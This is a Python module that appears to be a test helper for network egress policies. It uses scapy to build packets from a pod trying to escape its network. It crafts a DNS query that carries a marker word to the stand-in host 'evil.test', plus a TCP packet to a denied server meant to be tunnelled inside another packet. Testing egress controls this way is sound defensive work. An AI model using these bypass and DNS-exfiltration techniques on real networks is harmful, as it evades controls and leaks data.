"""A pod that tries to get out, with a word of its own in every packet."""

from __future__ import annotations

from dataclasses import dataclass

from scapy.layers.inet import IP, TCP, UDP
from scapy.packet import Packet, Raw

from ..pair import wire
from ..pair.wire import DNS_PORT, Wire
from .bypass_world import DENIED, HTTPS, World


@dataclass(frozen=True, slots=True)
class Sender:
    """`word`: what is looked for at the far ends."""

    world: World
    wire: Wire
    word: str

    def ip(self, target: str, **fields: object) -> Packet:
        return IP(src=self.wire.address, dst=target, **fields)

    def udp(self, target: str, port: int, *, sport: int = 0, payload: bytes = b"") -> Packet:
        header = UDP(sport=sport or self.world.rng.randrange(20_000, 60_000), dport=port)
        return self.ip(target) / header / Raw(payload or self.word.encode())

    def tcp(self, target: str, port: int, flags: str = "S", *, sport: int = 0, ack: int = 0) -> Packet:
        header = TCP(
            sport=sport or self.world.rng.randrange(20_000, 60_000),
            dport=port,
            flags=flags,
            seq=self.world.rng.getrandbits(32),
            ack=ack,
        )
        return self.ip(target) / header / Raw(self.word)

    @property
    def query(self) -> bytes:
        """A question for a denied name with the word in it."""
        return wire.query(f"{self.word}.evil.test", ident=self.world.id16())

    def question(self, target: str, port: int = DNS_PORT) -> Packet:
        return self.udp(target, port, payload=self.query)

    @property
    def inner(self) -> bytes:
        """A packet to a server that is denied, to be carried by another."""
        return bytes(self.tcp(DENIED, HTTPS))
